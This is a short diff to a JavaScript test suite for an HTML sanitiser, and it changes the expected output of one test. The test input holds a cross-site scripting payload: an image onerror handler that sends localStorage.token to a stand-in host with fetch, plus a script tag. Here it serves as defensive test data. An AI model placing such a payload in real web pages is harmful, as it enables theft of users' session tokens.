@@ -69,7 +69,7 @@ describe('operator HTML sanitiser', () => {
 
   it('given the script-bearing image of the finding, then the image stays without its handler', () => {
     const safe = sanitize('<b>Gleich</b> geht es los <img src=x onerror="fetch(\'//x/\'+localStorage.token)"><script>alert(1)</script>');
-    expect(safe).toBe('<b>Gleich</b> geht es los <img src="x">');
+    expect(safe).toBe('<b>Gleich</b> geht es los <img>');
   });
 
   it('given formatting and links, then they stay (links open in a new tab without opener)', () => {
